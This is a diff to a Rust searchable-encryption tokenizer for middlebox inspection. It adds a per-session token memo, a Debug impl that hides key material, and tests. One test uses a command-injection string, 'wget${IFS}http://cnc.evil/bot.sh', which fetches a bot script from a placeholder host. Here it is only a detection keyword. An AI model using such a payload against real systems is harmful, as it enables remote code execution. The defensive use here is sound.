@@ -15,6 +15,8 @@
 //! Windows are fixed-size ([`TOKEN_WINDOW`]) so token streams leak only
 //! payload length, not content (up to PRF security).
 
+use std::cell::Cell;
+
 use crate::ciphers::Speck128;
 use crate::kdf::derive_key;
 use crate::CryptoError;
@@ -38,7 +40,10 @@ pub type Token = [u8; TOKEN_SIZE];
 //
 // As big-endian words, block 2 is `x = TAIL_X | window >> 56` and
 // `y = window << 8`. So the tokenizer encrypts block 1 once and
-// runs a single block encryption per window.
+// runs a single block encryption per window. A token is a pure
+// function of its window, and gateway traffic repeats windows (padding,
+// attribute labels), so a small per-session memo skips even that block
+// for a window seen recently.
 
 /// Block 1's `x` word: the CBC-MAC length prefix of the PRF input
 /// (label, separator, window: 23 bytes).
@@ -47,6 +52,17 @@ const HEAD_X: u64 = (b"blindbox-token".len() + 1 + TOKEN_WINDOW) as u64;
 const HEAD_Y: u64 = u64::from_be_bytes(*b"blindbox");
 /// Block 2's `x` word without the window's first byte.
 const TAIL_X: u64 = u64::from_be_bytes(*b"-token\x1f\0");
+
+/// log2 of the window memo's slot count.
+const MEMO_BITS: u32 = 8;
+/// Window memo slots per session: 256 × 16 bytes = 4 KiB.
+const MEMO_SLOTS: usize = 1 << MEMO_BITS;
+
+/// The memo slot of a window word (Fibonacci hashing: the top
+/// [`MEMO_BITS`] bits of the golden-ratio product).
+fn memo_slot(window: u64) -> usize {
+    (window.wrapping_mul(0x9E37_79B9_7F4A_7C15) >> (64 - MEMO_BITS)) as usize
+}
 
 /// Reads up to [`TOKEN_WINDOW`] leading bytes as one big-endian word,
 /// zero-padding short input.
@@ -57,8 +73,19 @@ fn window_word(bytes: &[u8]) -> u64 {
     u64::from_be_bytes(word)
 }
 
+/// Block 2's encryption from the midstate: the token of `window` as a
+/// big-endian word.
+fn encrypt_window(cipher: &Speck128, midstate: (u64, u64), window: u64) -> u64 {
+    cipher
+        .encrypt_words(midstate.0 ^ (window >> 56), midstate.1 ^ (window << 8))
+        .0
+}
+
 /// Per-session tokenizer shared (via the XLF Core key exchange) between
 /// the endpoint and the inspecting middlebox rule authority.
+///
+/// Tokenization goes through a 256-slot window memo held in `Cell`s, so
+/// the methods take `&self` but a `Tokenizer` is not `Sync`.
 ///
 /// # Example
 ///
@@ -75,12 +102,24 @@ fn window_word(bytes: &[u8]) -> u64 {
 /// # Ok(())
 /// # }
 /// ```
-#[derive(Debug)]
 pub struct Tokenizer {
     cipher: Speck128,
     /// CBC-MAC state after block 1, with block 2's constant bytes
     /// (`TAIL_X`) already folded into the `x` word.
     midstate: (u64, u64),
+    /// Direct-mapped `(window, token word)` memo indexed by
+    /// [`memo_slot`]. Every slot always holds a valid pair (`new` fills
+    /// them with window 0), and a hit compares the whole window, so a
+    /// lookup never returns another window's token.
+    memo: Box<[Cell<(u64, u64)>; MEMO_SLOTS]>,
+}
+
+/// Shows no field: the cipher's round keys, the midstate and the memo's
+/// tokens are all session-key material.
+impl std::fmt::Debug for Tokenizer {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("Tokenizer").finish_non_exhaustive()
+    }
 }
 
 impl Tokenizer {
@@ -94,19 +133,26 @@ impl Tokenizer {
         let key = derive_key(session_secret, "xlf-searchable-token", 16)?;
         let cipher = Speck128::new(&key)?;
         let (x, y) = cipher.encrypt_words(HEAD_X, HEAD_Y);
+        let midstate = (x ^ TAIL_X, y);
+        let zero = (0, encrypt_window(&cipher, midstate, 0));
         Ok(Tokenizer {
             cipher,
-            midstate: (x ^ TAIL_X, y),
+            midstate,
+            memo: Box::new(std::array::from_fn(|_| Cell::new(zero))),
         })
     }
 
-    /// The token of one window held as a big-endian word.
+    /// The token of one window held as a big-endian word: a memo hit,
+    /// or one block encryption that then overwrites the window's slot.
     fn window_token(&self, window: u64) -> Token {
-        let (x, _) = self.cipher.encrypt_words(
-            self.midstate.0 ^ (window >> 56),
-            self.midstate.1 ^ (window << 8),
-        );
-        x.to_be_bytes()
+        let slot = &self.memo[memo_slot(window)];
+        let (cached, token) = slot.get();
+        if cached == window {
+            return token.to_be_bytes();
+        }
+        let token = encrypt_window(&self.cipher, self.midstate, window);
+        slot.set((window, token));
+        token.to_be_bytes()
     }
 
     /// Produces the token stream for an outgoing payload: one token per
@@ -337,6 +383,46 @@ mod tests {
         assert_eq!(buf, t.tokenize(b"hi"));
         t.tokenize_into(b"", &mut buf);
         assert_eq!(buf, vec![t.rule_token(b"")]);
+    }
+
+    #[test]
+    fn memo_slot_collisions_evict_without_changing_tokens() {
+        // Two distinct windows that share a memo slot, alternated so
+        // each lookup misses and evicts the other.
+        let a = u64::from_be_bytes(*b"window-a");
+        let b = (1..)
+            .map(|n: u64| a ^ n)
+            .find(|&w| memo_slot(w) == memo_slot(a))
+            .unwrap();
+        let t = Tokenizer::new(b"k").unwrap();
+        let uncached = |w: u64| encrypt_window(&t.cipher, t.midstate, w).to_be_bytes();
+        let (token_a, token_b) = (uncached(a), uncached(b));
+        assert_ne!(token_a, token_b);
+        for _ in 0..3 {
+            assert_eq!(t.window_token(a), token_a);
+            assert_eq!(t.window_token(b), token_b);
+        }
+        assert_eq!(t.memo[memo_slot(a)].get(), (b, u64::from_be_bytes(token_b)));
+    }
+
+    #[test]
+    fn rule_tokens_are_unchanged_by_prior_traffic() {
+        let keyword = b"wget${IFS}http://cnc.evil/bot.sh";
+        let t = Tokenizer::new(b"session").unwrap();
+        let before = t.rule_tokens(keyword);
+        for payload in [
+            &b"Temperature=21.50                               "[..],
+            b"\0\0\0\0\0\0\0\0\0\0",
+            b"GET /cnc.evil/bot.sh HTTP/1.1",
+            keyword,
+        ] {
+            t.tokenize(payload);
+        }
+        assert_eq!(t.rule_tokens(keyword), before);
+        assert_eq!(
+            before,
+            Tokenizer::new(b"session").unwrap().rule_tokens(keyword)
+        );
     }
 
     #[test]
